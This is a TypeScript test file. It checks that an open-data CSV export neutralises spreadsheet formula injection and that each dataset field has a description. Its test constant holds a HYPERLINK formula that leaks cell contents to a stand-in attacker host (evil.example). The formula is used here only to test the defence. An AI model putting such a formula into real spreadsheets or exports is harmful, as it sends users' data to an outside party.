import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildCatalogue } from '../../src/lib/catalogue.ts';
import { DATASETS, cityRecords, citiesCsv, datasetJsonSchema, indexResultRecords, indexResultsCsv, practiceRecords, practicesCsv, recordFields, type DatasetName } from '../../src/lib/open-data.ts';
import type { IndexResult } from '../../src/lib/schemas/index-result.ts';
import { catalogueInput, practice } from '../fixtures/catalogue.ts';

const url = (lang: string, id: string) => `https://example.org/${lang}/${id}/`;
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Report")';

/** A catalogue whose texts start the way spreadsheets misread: a formula, a Markdown list, "+", "@", a tab. */
function hostileCatalogue() {
  return buildCatalogue({
    ...catalogueInput,
    cities: catalogueInput.cities.map((city) => (city.id === 'lisbon' ? { ...city, data: { ...city.data, lon: -9.14, name: '@lisbon', localName: '+351 Lisboa' } } : city)),
    practices: [
      {
        id: 'hostile',
        lang: 'en',
        data: practice({ title: FORMULA, cities: ['lisbon'], themes: ['mediation'], process: '- item one\n- item two', results: '\tTabbed', stimulus: '\rReturn', transferability: '-5 people' }),
      },
      { id: 'hostile', lang: 'fr', data: practice({ title: '+ de rencontres', cities: ['lisbon'], themes: ['mediation'], purpose: 'Objectif = rencontre' }) },
    ],
  });
}

/** The CSV read back as a spreadsheet would: one object per row, keyed by the header. */
const readBack = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];

describe('open data CSV', () => {
  const catalogue = hostileCatalogue();
  const records = practiceRecords(catalogue, url);

  it('puts an apostrophe before text cells starting with =, +, -, @, tab or carriage return (OWASP CSV injection)', () => {
    const [row] = readBack(practicesCsv(records));
    expect(row).toMatchObject({
      title_en: `'${FORMULA}`,
      process_en: "'- item one\n- item two",
      results_en: "'\tTabbed",
      stimulus_en: "'\rReturn",
      transferability_en: "'-5 people",
      title_fr: "'+ de rencontres",
      purpose_fr: 'Objectif = rencontre',
      id: 'hostile',
    });
  });

  it('leaves numbers as numbers (a negative longitude is not a formula) and neutralises city names', () => {
    const lisbon = readBack(citiesCsv(cityRecords(catalogue, url))).find((row) => row.id === 'lisbon');
    expect(lisbon).toMatchObject({ lon: '-9.14', name: "'@lisbon", localName: "'+351 Lisboa" });
  });

  it('neutralises Index result summaries too', () => {
    const result: IndexResult = {
      city: 'oslo',
      edition: 2019,
      date: '2019-05-01',
      version: '2019',
      sampleSize: 100,
      overall: 70,
      scores: { mediation: 70 },
      summary: { en: '=1+1', fr: '@SUM(A1:A2)' },
      recommendations: [],
    };
    const [row] = readBack(indexResultsCsv(indexResultRecords([{ id: 'oslo-2019', data: result }], url), ['mediation']));
    expect(row).toMatchObject({ summary_en: "'=1+1", summary_fr: "'@SUM(A1:A2)", overall: '70', score_mediation: '70' });
  });

  it('keeps the exact text in the JSON records', () => {
    const [record] = records;
    expect(record!.translations.en).toMatchObject({ title: FORMULA, process: '- item one\n- item two', results: '\tTabbed' });
    expect(record!.translations.fr).toMatchObject({ title: '+ de rencontres' });
    expect(JSON.parse(JSON.stringify(record)).translations.en.title).toBe(FORMULA);
  });
});

describe('open data field meanings (the codebook on the data page and in the JSON Schemas)', () => {
  interface Node { description?: string; properties?: Record<string, Node>; items?: Node; anyOf?: Node[] }
  /** Every property of every object in a dataset's JSON Schema, at any depth: "records[].url.en". */
  function properties(node: Node, path: string): { path: string; description: string | undefined }[] {
    const own = Object.entries(node.properties ?? {}).flatMap(([name, child]) => [
      { path: `${path}${name}`, description: child.description },
      ...properties(child, `${path}${name}.`),
    ]);
    const items = node.items ? properties(node.items, path.replace(/\.$/, '[].')) : [];
    const options = (node.anyOf ?? []).flatMap((option) => properties(option, path));
    return [...own, ...items, ...options];
  }
  const names = Object.keys(DATASETS) as DatasetName[];
  const everyField = names.flatMap((name) => properties(datasetJsonSchema(name, name) as Node, `${name}: `));

  it('gives every field of every dataset, at every depth, a meaning', () => {
    expect(everyField.length).toBeGreaterThan(60);
    expect(everyField.filter((field) => !field.description?.trim()).map((field) => field.path)).toEqual([]);
    for (const name of names) expect(recordFields(name).filter((field) => !field.description).map((field) => field.name)).toEqual([]);
  });

  it('never shows the public a path inside the repository', () => {
    const repositoryPath = /\b(src|public|test|scripts|node_modules)\/|\.(md|ts|yaml)\b/;
    expect(everyField.filter((field) => repositoryPath.test(field.description ?? '')).map((field) => `${field.path}: ${field.description}`)).toEqual([]);
  });
});
